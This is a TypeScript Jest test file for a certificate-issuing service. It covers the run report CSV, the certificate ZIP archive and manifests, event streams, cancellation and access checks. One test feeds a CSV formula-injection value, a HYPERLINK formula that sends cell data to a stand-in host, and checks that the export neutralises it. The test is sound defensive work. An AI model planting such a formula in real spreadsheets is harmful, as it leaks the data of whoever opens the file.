// What one can take out of a run, through the front door: its states as they come, the table of its decisions, its certificates.

import { createHash } from 'node:crypto';
import { unlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { allEvents } from './support/event-stream.ts';
import { type Pipeline, pipelineOf, type Run } from './support/pipeline.ts';
import { startTestService, type TestService } from './support/service.ts';
import { watchStatements } from './support/statements.ts';
import { serviceToken, studentToken } from './support/tokens.ts';
import { until } from './support/until.ts';
import { readZip } from './support/zip.ts';

let service: TestService;
let pipeline: Pipeline;
beforeAll(async () => {
  service = await startTestService({
    origin: 'http://127.0.0.1:1',
    env: { PLATEN_PLUGINS: './test/support/plugins/attendance.ts' },
  });
  pipeline = pipelineOf(service);
});
afterAll(() => service[Symbol.asyncDispose]());

const present = { retriever: 'attendance/present', generator: 'attendance/paper' };
const rehearsalOf = async (name: string, options: object) => {
  const type = { name, ...present, options: { gives: 'template', ...options } };
  const id = await pipeline.begin(await pipeline.configure({ type }), 'dry-run');
  // Without its items, which may be large.
  return until(async () => {
    const run = await pipeline.find(id, 1);
    return run.state === 'completed' ? run : undefined;
  });
};
const reportOf = async (runId: string) => {
  const response = await pipeline.call('GET', `/internal/runs/${runId}/report.csv`);
  const bytes = Buffer.from(await response.arrayBuffer());
  return { response, bytes, rows: parse(bytes, { bom: true }) as string[][] };
};

/** How often the items of runs are asked for, until it is disposed. */
function watchPages() {
  const asked: number[] = [];
  const watching = watchStatements(({ text, values }) => {
    if (/FROM platen\.run_items WHERE run_id = .*ORDER BY student_id, course_id LIMIT/s.test(text))
      asked.push(Number(values.at(-1)));
  });
  return { asked, [Symbol.dispose]: () => watching[Symbol.dispose]() };
}

const learners = 5000;
const columns = ['studentId', 'isEligible', 'outcome', 'code', 'certificateId', 'criteria', 'steps'];

test('the report has a line for each of 5,000 learners, and is read from the database page by page', async () => {
  const run = await rehearsalOf('large', { learners });
  using pages = watchPages();
  const { response, bytes, rows } = await reportOf(run.id);
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
  expect(response.headers.get('content-disposition')).toBe(`attachment; filename="run_course-of-large_${run.id}.csv"`);
  expect(bytes.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  expect(rows).toHaveLength(learners + 1);
  expect(rows[0]).toEqual(columns);
  expect(rows[1]).toEqual(['STU000001', 'false', 'not_eligible', '', '', 'Days: required 50, actual 37, not met', '']);
  expect(rows[2]).toEqual(['STU000002', 'true', 'would_issue', '', '', 'Days: required 50, actual 74, met', '']);
  expect(new Set(rows.slice(1).map(([studentId]) => studentId)).size).toBe(learners);
  expect(rows.filter(([, isEligible]) => isEligible === 'true')).toHaveLength(run.counts.eligible ?? 0);
  expect(pages.asked).toEqual(Array.from({ length: learners / 500 + 1 }, () => 500));
});

test('what a plug-in says is no formula in a spreadsheet, and its letters stay', async () => {
  const criterion = '=HYPERLINK("http://x/?"&A1,"Tage, die zählen")';
  const run = await rehearsalOf('formulas', { learners: 1, criterion });
  const { bytes, rows } = await reportOf(run.id);
  expect(rows[1]?.[5]).toBe(`'${criterion}: required 50, actual 37, not met`);
  expect(bytes.toString()).not.toMatch(/[,\n]"?[=+\-@\t]/);
});

test('a reader who goes away in the middle is not worked for', async () => {
  // Far more than what lies between the two ends of a connection.
  const run = await rehearsalOf('long', { learners: 10_000, criterion: 'x'.repeat(1000) });
  const whole = 10_000 / 500 + 1;
  using pages = watchPages();
  const leaving = new AbortController();
  const answer = await fetch(`${service.url}/internal/runs/${run.id}/report.csv`, {
    headers: { 'x-service-auth': `Bearer ${serviceToken}` },
    signal: leaving.signal,
  });
  await answer.body?.getReader().read();
  leaving.abort();
  // While this one is given a report, the other would be given the rest of theirs.
  const { rows } = await reportOf(run.id);
  expect(rows).toHaveLength(10_000 + 1);
  expect(pages.asked.length).toBeGreaterThan(whole);
  expect(pages.asked.length).toBeLessThan(2 * whole);
});

test('who only wants the headers is not worked for either', async () => {
  const run = await rehearsalOf('headers', { learners: 1 });
  using pages = watchPages();
  for (const output of ['report.csv', 'archive']) {
    const { status, headers } = await pipeline.call('HEAD', `/internal/runs/${run.id}/${output}`);
    expect([status, headers.get('content-disposition')]).toEqual([200, expect.stringContaining('course-of-headers')]);
  }
  expect(pages.asked).toEqual([]);
});

test('a pathway tells of each of its steps', async () => {
  await pipeline.putList('first-step', 'studentId,score,passingScore\nP1,5,5\nP2,5,5\n');
  await pipeline.putList('second-step', 'studentId,score,passingScore\nP1,6,5\nP2,4,5\n');
  const step = (slug: string) => ({ id: slug, name: slug, options: { asset: slug } });
  const id = await pipeline.configure({
    type: { name: 'steps', retriever: 'list', generator: 'template' },
    context: { kind: 'pathway', id: 'PATH1', steps: [step('first-step'), step('second-step')] } as never,
    more: { options: { asset: 'first-step' } },
  });
  const run = await pipeline.ended(await pipeline.begin(id, 'dry-run'));
  expect((await reportOf(run.id)).rows.slice(1).map((row) => [row[0], row[2], row[6]])).toEqual([
    [
      'P1',
      'would_issue',
      'first-step eligible (Score: required 5, actual 5, met); second-step eligible (Score: required 5, actual 6, met)',
    ],
    [
      'P2',
      'not_eligible',
      'first-step eligible (Score: required 5, actual 5, met); second-step not eligible (Score: required 5, actual 4, not met)',
    ],
  ]);
});

test('the archive has what the run has issued, and manifests that tell of all who have earned it', async () => {
  await pipeline.putList(
    'class',
    'studentId,firstName,lastName,score,passingScore\nA:1,Anjali,Kumar,9,5\nB2,Ravi,Iyer,4,5\nC3,,,9,5\nD4,Meena,Das,8,5\n',
  );
  const type = {
    name: 'class',
    retriever: 'list',
    generator: 'template',
    options: { asset: 'class', templateId: 'plain-certificate' },
  };
  const id = await pipeline.configure({ type });
  const run = await pipeline.ended(await pipeline.begin(id, 'run'));
  expect(run.counts).toEqual({ checked: 4, eligible: 3, issued: 2, skipped: 0, failed: 1 });
  const [lost] = await pipeline.json<{ id: string; s3_key: string }[]>('GET', '/certificates/D4');
  await unlink(join(service.dataDir, 'documents', lost?.s3_key ?? ''));
  const answer = await pipeline.call('GET', `/internal/runs/${run.id}/archive`);
  expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'application/zip']);
  expect(answer.headers.get('content-disposition')).toMatch(/filename="certificates_course-of-class_\d{14}\.zip"/);
  const files = await readZip(Buffer.from(await answer.arrayBuffer()));
  expect([...files.keys()]).toEqual(['A%3A1.pdf', 'manifest.json', 'manifest.csv']);
  const pdf = files.get('A%3A1.pdf') ?? Buffer.alloc(0);
  const manifest = JSON.parse(files.get('manifest.json')?.toString() ?? '');
  const certificateId = (studentId: string) => run.items.find((item) => item.studentId === studentId)?.certificateId;
  const sha256 = createHash('sha256').update(pdf).digest('hex');
  const issued = { outcome: 'issued', number: expect.any(String), status: 'available' };
  const first = { studentId: 'A:1', certificateId: certificateId('A:1'), ...issued, file: 'A%3A1.pdf', sha256 };
  expect(manifest).toMatchObject({ id: run.id, state: 'completed', counts: run.counts });
  expect(manifest.items).toEqual([
    first,
    { studentId: 'C3', outcome: 'failed', code: 'name_required' },
    { studentId: 'D4', certificateId: certificateId('D4'), ...issued, code: 'not_found' },
  ]);
  const table = parse(files.get('manifest.csv') ?? '', { columns: true });
  expect(table).toHaveLength(3);
  expect(table[0]).toEqual({ ...first, code: '' });
  // Who has theirs from an earlier run does not get it from a later one.
  const later = await pipeline.ended(await pipeline.begin(id, 'run', { only: ['A:1'] }));
  const second = await readZip(
    Buffer.from(await (await pipeline.call('GET', `/internal/runs/${later.id}/archive`)).arrayBuffer()),
  );
  expect([...second.keys()]).toEqual(['manifest.json', 'manifest.csv']);
  expect(JSON.parse(second.get('manifest.json')?.toString() ?? '').items).toMatchObject([
    { outcome: 'skipped', certificateId: certificateId('A:1') },
  ]);
});

test('its states come as events, from the first to the last, with counts that grow', async () => {
  const type = { name: 'followed', ...present, options: { learners: 6, minimum: 0, gives: 'template' } };
  const id = await pipeline.begin(await pipeline.configure({ type }), 'run');
  const path = `/internal/runs/${id}/events`;
  const answer = await pipeline.call('GET', path);
  expect([answer.status, answer.headers.get('content-type')]).toEqual([200, 'text/event-stream']);
  const events = await allEvents<Run>(answer);
  const issued = events.map(({ data }) => data.counts.issued ?? 0);
  expect(issued).toEqual(issued.toSorted((one, other) => one - other));
  expect(events.at(-1)?.data).toMatchObject({ id, state: 'completed', counts: { checked: 6, issued: 6 } });
  expect(events.slice(0, -1).every(({ data }) => data.state !== 'completed')).toBe(true);
  expect(events[0]?.data).not.toHaveProperty('items');
  const headers = { 'x-service-auth': `Bearer ${serviceToken}`, 'last-event-id': events.at(-1)?.id ?? '' };
  expect((await fetch(service.url + path, { headers })).status).toBe(204);
  expect(await allEvents(await pipeline.call('GET', path))).toMatchObject([{ data: { state: 'completed' } }]);
});

test('who follows a run that is cancelled is told so', async () => {
  const type = { name: 'hanging', ...present, options: { gives: 'template', fault: 'hangs' } };
  const id = await pipeline.begin(await pipeline.configure({ type }), 'run');
  await until(async () => (await pipeline.find(id, 1)).state === 'active');
  const following = pipeline.call('GET', `/internal/runs/${id}/events`).then((answer) => allEvents<Run>(answer));
  expect((await pipeline.call('DELETE', `/internal/runs/${id}`)).status).toBe(204);
  expect((await following).at(-1)?.data).toMatchObject({ state: 'cancelled' });
});

test('none of it is for others, or of a run that there is not', async () => {
  const run = await rehearsalOf('private', { learners: 1 });
  for (const output of ['events', 'report.csv', 'archive']) {
    expect((await service.get(`/internal/runs/${run.id}/${output}`, studentToken('STU1'))).status).toBe(403);
    expect((await service.get(`/internal/runs/${run.id}/${output}`)).status).toBe(401);
    expect(await pipeline.refusal('GET', `/internal/runs/${crypto.randomUUID()}/${output}`)).toBe('404 not_found');
    expect(await pipeline.refusal('GET', `/internal/runs/x/${output}`)).toBe('404 not_found');
  }
});
